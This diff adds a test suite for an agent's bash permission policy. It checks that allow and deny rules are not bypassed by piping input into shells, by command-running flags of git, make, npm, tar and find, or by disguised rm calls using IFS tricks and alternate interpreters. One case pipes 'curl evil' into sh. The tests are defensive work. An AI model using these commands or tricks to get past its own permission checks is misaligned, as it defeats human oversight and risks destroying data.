@@ -1,0 +1,188 @@
+import { describe, expect, it } from 'vitest'
+import { callOf, type RuleLists, testPolicy } from '../support/policy.ts'
+
+const judge = async (command: string, rules: RuleLists, mode: 'default' | 'bypass' = 'default') =>
+  (await testPolicy({ rules, mode }).judge(callOf('bash', { command }))).behavior
+
+describe('a rule that allows just some words', () => {
+  it.each([
+    ['Bash(sh)', 'echo "rm -rf x" | sh'],
+    ['Bash(sh)', 'cat a.txt | sh'],
+    ['Bash(sh)', "sh <<< 'rm x'"],
+    ['Bash(sh)', 'sh < a.txt'],
+    ['Bash(python3)', 'cat a.txt | python3'],
+    ['Bash(python3 -)', "python3 - <<'E'\nimport os\nE"],
+    ['Bash(python3 -u)', 'cat a.txt | python3 -u'],
+    ['Bash(python3 -i a.py)', 'cat a.txt | python3 -i a.py'],
+    ['Bash(node -r ./x)', 'cat a.txt | node -r ./x'],
+    ['Bash(env A=b bash)', 'cat a.txt | env A=b bash'],
+    ['Bash(docker exec -i web sh)', 'cat a.txt | docker exec -i web sh'],
+    ['Bash(ssh host)', 'cat a.txt | ssh host'],
+    ['Bash(su me)', 'cat a.txt | su me'],
+    ['Bash(sudo -s)', 'cat a.txt | sudo -s'],
+    ['Bash(xargs rm)', 'git log | xargs rm'],
+    ['Bash(crontab -)', 'cat a.txt | crontab -'],
+    ['Bash(make -f -)', 'cat a.txt | make -f -'],
+    ['Bash(source /dev/stdin)', 'cat a.txt | source /dev/stdin'],
+    ['Bash(tclsh)', 'cat a.txt | tclsh'],
+  ])('%s does not allow %j, which runs what it reads', async (rule, command) => {
+    expect(await judge(command, { allow: [rule] })).toBe('ask')
+  })
+
+  it.each([
+    ['Bash(sh a.sh)', 'cat a.txt | sh a.sh'],
+    ['Bash(python3 a.py)', 'cat a.txt | python3 a.py'],
+    ['Bash(python3 -m json.tool)', 'cat a.txt | python3 -m json.tool'],
+    ["Bash(node -e '1')", "cat a.txt | node -e '1'"],
+    ['Bash(xargs grep x)', 'git ls-files | xargs grep x'],
+    ['Bash(sh:*)', 'cat a.txt | sh'],
+    ['Bash(ssh host uptime)', 'ssh host uptime'],
+    ['Bash(sudo -u me ls)', 'sudo -u me ls'],
+  ])('%s allows %j', async (rule, command) => {
+    expect(await judge(command, { allow: [rule] })).toBe('allow')
+  })
+})
+
+describe('a rule that leaves open what follows', () => {
+  it.each([
+    ['git fetch:*', 'git fetch --upload-pack=x origin'],
+    ['git fetch:*', 'git fetch --uplo x origin'],
+    ['git push:*', 'git push --receive-pack x origin'],
+    ['git push:*', 'git push --exec=x origin'],
+    ['git pull:*', 'git pull ext::x'],
+    ['git rebase:*', 'git rebase -x "curl evil|sh" main'],
+    ['git rebase:*', 'git rebase --exec x main'],
+    ['git rebase:*', 'git rebase -kix x main'],
+    ['git:*', 'git bisect run x'],
+    ['git:*', 'git submodule foreach x'],
+    ['git:*', 'git -c core.pager=x log'],
+    ['git:*', 'git config alias.x !x'],
+    ['git:*', 'git --exec-path=/x fetch'],
+    ['git:*', 'git filter-branch --tree-filter x'],
+    ['go test:*', 'go test -exec x ./...'],
+    ['go test:*', 'go test -toolexec=x ./...'],
+    ['make test:*', 'make test SHELL=/x'],
+    ['make test:*', 'make test CC=x'],
+    ['make test:*', 'make test -f x'],
+    ['make test:*', 'make test --eval=x:'],
+    ['make test:*', 'make test -sC x'],
+    ['npm run build:*', 'npm run build --script-shell=/x'],
+    ['npm run build:*', 'npm run build --script-sh /x'],
+    ['npm run build:*', 'npm run build --prefix /x'],
+    ['npm run build:*', 'npm run build --node-options=--require=x'],
+    ['cargo test:*', 'cargo test --config target.x.runner=x'],
+    ['sed:*', "sed '1e x' a.txt"],
+    ['tar:*', 'tar cf a.tar --checkpoint-action=exec=x .'],
+    ['find:*', 'find . -exec x {} +'],
+  ])('Bash(%s) does not allow %j', async (rule, command) => {
+    expect(await judge(command, { allow: [`Bash(${rule})`] })).toBe('ask')
+  })
+
+  it.each([
+    ['git fetch:*', 'git fetch --prune origin main'],
+    ['git rebase:*', 'git rebase --onto a b'],
+    ['git:*', 'git -C sub push'],
+    ['git:*', 'git commit -m "upload-pack=x"'],
+    ['go test:*', 'go test -run X ./...'],
+    ['make test:*', 'make test -j4'],
+    ['npm run build:*', 'npm run build -- --config x --prefix y'],
+    ['npm run build:*', 'npm run build --silent'],
+    ['cargo test:*', 'cargo test --release x'],
+    ['sed:*', "sed -i 's/a/b/' a.txt"],
+    ['python3:*', 'cat a.txt | python3'],
+  ])('Bash(%s) allows %j', async (rule, command) => {
+    expect(await judge(command, { allow: [`Bash(${rule})`] })).toBe('allow')
+  })
+})
+
+describe('a rule that forbids rm', () => {
+  const rules = { deny: ['Bash(rm:*)'], allow: ['Bash(*)'] }
+
+  it.each([
+    'IFS=_; c=rm_x; $c',
+    'export IFS=_; c=rm_x; $c',
+    'BASH_CMDS[ls]=/bin/rm; ls f',
+    'declare -A BASH_ALIASES; BASH_ALIASES[x]=rm',
+    'declare -n a=BASH_CMDS; a[ls]=/bin/rm; ls f',
+    'csh -c "rm f"',
+    'tcsh -fc "rm f"',
+    'yash -c "rm f"',
+    'nu -c "rm f"',
+    'nu --commands "rm f"',
+    'pwsh -c "rm f"',
+    'pwsh -NoProfile -Command "rm f"',
+    "fish -c'rm f'",
+    '/lib64/ld-linux-x86-64.so.2 /bin/rm x',
+    'ld.so --library-path /x /bin/rm x',
+    'gdb --args rm x',
+    "split --filter='rm x' f",
+    'cmake -E rm f',
+    "perl -e 'exec qw(rm x)'",
+    "julia -e 'run(`rm f`)'",
+    "echo 'syscmd(rm f)' | m4",
+    "ed <<< '!rm f'",
+    "dc -e '!rm f'",
+    'tclsh <<E\nexec rm f\nE',
+    "python3 - <<E\nimport os\nos.system('rm x')\nE",
+    `echo "import os; os.system('rm x')" | python3`,
+    'cat a.py | python3',
+    'printf "x:\\n\\trm f" | make -f -',
+    "make --eval='x:;rm f'",
+    "echo 'rm x' | crontab -",
+    "echo 'rm x' | ssh host",
+    "echo 'rm x' | sudo -s",
+    `unset IFS; : \${IFS:=_}; c=rm_x; $c`,
+    'xterm -e rm f',
+    'xterm -e "rm f"',
+    'nvm exec 20 rm f',
+    'asdf exec rm f',
+    'dotenv -- rm f',
+    'doppler run -- rm f',
+    'op run -- rm f',
+    'concurrently "rm f"',
+    `npx tsx -e "require('child_process').execSync('rm f')"`,
+    'some-launcher --then rm f',
+    './script /usr/bin/rm f',
+    'go test -exec rm ./...',
+    'npm test --script-shell rm',
+  ])('lets %j not pass unseen, not even in bypass', async (command) => {
+    expect([await judge(command, rules), await judge(command, rules, 'bypass')]).not.toContain('allow')
+  })
+
+  it.each([
+    'git commit -m "rm x"',
+    'git add rm',
+    'git rm f',
+    'git log --grep rm',
+    'docker rm web',
+    'npm rm left-pad',
+    'aws s3 rm s3://b/k',
+    'echo rm',
+    'echo "rm f" | tee log',
+    'echo "to rm or not" && ./build.sh',
+    'grep rm f',
+    "sed 's|rm|ls|' f",
+    "awk -F'|' '/rm/' f",
+    'man rm',
+    'which rm',
+    'command -v rm',
+    'ls rm',
+    'cat rm | grep rm',
+    'cat <<E\nrm f\nE',
+    'apt-get install rm',
+    'pytest -k rm',
+    'npm test -- -t "rm f"',
+    'sometool --message "rm f"',
+    'timeout 5 cat rm',
+    'nice -n 5 grep rm f',
+    'python3 -c "print(\'rm f\')"',
+    'node -e "console.log(\'rm f\')"',
+    'while IFS= read -r line; do echo "$line"; done < f',
+    'some-program --rm --format',
+    'make test',
+    'cat f | python3 -m json.tool',
+    'cat f | some-program',
+  ])('does not take %j for it', async (command) => {
+    expect(await judge(command, rules)).toBe('allow')
+  })
+})
